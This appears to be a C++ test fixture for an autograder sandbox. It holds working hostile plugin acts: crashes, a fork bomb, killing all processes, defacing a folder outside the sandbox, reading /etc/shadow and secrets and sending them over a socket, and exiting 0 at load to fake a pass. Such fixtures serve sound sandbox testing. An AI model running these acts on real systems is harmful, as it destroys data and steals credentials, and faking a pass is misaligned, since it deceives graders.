// What a hostile submission does, compiled into the reference diffuse plugin
// (the test build inserts a call to hostileAct() at the top of its
// GenerateSample, so everything else about the plugin is correct). One act
// per build, chosen with -DHOSTILE_<ACT>. The autograder's tests grade each
// and check that grading survives, reports what happened, gives no points
// the plugin did not earn, and that nothing outside the sandbox changed.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <new>
#include <stdexcept>
#include <string>
#include <vector>

namespace {

/// Tries every way it knows to change the canary folder (a folder outside the sandbox).
[[maybe_unused]] void vandalise(std::string const& folder) {
    std::string canary = folder + "/canary.txt";
    if (FILE* f = std::fopen(canary.c_str(), "a")) {
        std::fputs("defaced\n", f);
        std::fclose(f);
    }
    truncate(canary.c_str(), 0);
    chmod(canary.c_str(), 0777);
    struct timeval times[2] = {{0, 0}, {0, 0}};
    utimes(canary.c_str(), times);
    rename(canary.c_str(), (folder + "/moved.txt").c_str());
    unlink(canary.c_str());
    symlink("/etc/passwd", (folder + "/link").c_str());
    mkdir((folder + "/planted").c_str(), 0755);
}

/// Everything of the grader's machine it can read, gathered into one string.
[[maybe_unused]] std::string loot() {
    std::string found;
    if (char const* secret = std::getenv("RIXGRADE_TEST_SECRET")) found += std::string("secret=") + secret + "\n";
    for (char const* path : {"/proc/1/cmdline", "/proc/1/environ", HOSTILE_CANARY "/canary.txt", "/etc/passwd",
                             "/etc/shadow", "/root/.bash_history"}) {
        if (FILE* f = std::fopen(path, "r")) {
            char buffer[512];
            size_t n = std::fread(buffer, 1, sizeof buffer - 1, f);
            buffer[n] = 0;
            found += std::string(path) + ": " + buffer + "\n";
            std::fclose(f);
        }
    }
    return found;
}

}  // namespace

void hostileAct() {
#if defined(HOSTILE_SEGFAULT)
    volatile std::uintptr_t nowhere = 64;  // read at run time, so the compiler does not object to the write
    *reinterpret_cast<volatile int*>(nowhere) = 1;
#elif defined(HOSTILE_ABORT)
    std::abort();
#elif defined(HOSTILE_ENDLESS_LOOP)
    for (volatile unsigned spin = 0;; ++spin) {
    }
#elif defined(HOSTILE_HUGE_ALLOCATION)
    std::vector<char> huge(64ull << 30, 1);
    std::printf("%d\n", huge[huge.size() / 2]);
#elif defined(HOSTILE_THROWS)
    throw std::runtime_error("a plugin that throws");
#elif defined(HOSTILE_FLOODS_STDOUT)
    static bool once = false;
    if (!once) {
        once = true;
        for (int i = 0; i < 200000; ++i) std::printf("flooding the grader's output, line %d\n", i);
        std::fflush(stdout);
    }
#elif defined(HOSTILE_FORK_BOMB)
    for (int i = 0; i < 64; ++i)
        if (fork() == 0) {
            sleep(30);
            _exit(0);
        }
#elif defined(HOSTILE_WRITES_OUTSIDE)
    vandalise(HOSTILE_CANARY);
#elif defined(HOSTILE_EXIT_ZERO)
    // Acts when loaded (below), before any question is answered.
#elif defined(HOSTILE_KILLS_GRADER)
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
#elif defined(HOSTILE_STEALS)
    std::string found = loot();
    std::fprintf(stderr, "%s", found.c_str());
    std::printf("%s", found.c_str());
    for (char const* path : {"/scratch/results.json", "/scratch/../results.json", HOSTILE_CANARY "/results.json"})
        if (FILE* f = std::fopen(path, "w")) {
            std::fputs(found.c_str(), f);
            std::fclose(f);
        }
#elif defined(HOSTILE_PHONES_HOME)
    std::string found = loot();
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(HOSTILE_PORT);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0)
        (void)!write(s, found.data(), found.size());
    if (s >= 0) close(s);
#elif defined(HOSTILE_FAKE_IMAGE)
    // Claims a 60000 x 60000 image on the descriptor a render returns pixels on.
    uint32_t header[4] = {0x4d495852u, 60000u, 60000u, 7u};
    (void)!write(3, header, sizeof header);
    _exit(0);
#else
#error "choose an act with -DHOSTILE_<ACT>"
#endif
}

#if defined(HOSTILE_EXIT_ZERO)
// "Passed" as soon as the plugin is loaded: an exit status is no evidence of anything.
[[maybe_unused]] static int const g_exitAtLoad = (_exit(0), 0);
#endif
